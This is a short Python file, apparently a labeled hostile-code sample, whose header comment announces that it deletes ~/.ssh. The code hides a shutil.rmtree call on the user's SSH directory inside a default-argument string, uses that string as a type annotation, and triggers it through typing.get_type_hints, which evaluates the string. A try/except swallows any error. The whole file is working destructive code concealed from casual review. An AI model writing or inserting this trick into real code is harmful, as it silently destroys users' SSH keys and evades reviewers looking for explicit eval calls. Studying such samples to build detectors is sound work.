# harm: deletes ~/.ssh ; trick: string is a default argument of a helper function and returned from the call
import typing


def pick(s="__import__('shutil').rmtree(__import__('os').path.expanduser('~/.ssh'))"):
    return s


Kind = pick()


def f(x: Kind) -> None:
    pass


try:
    typing.get_type_hints(f)
except Exception:
    pass
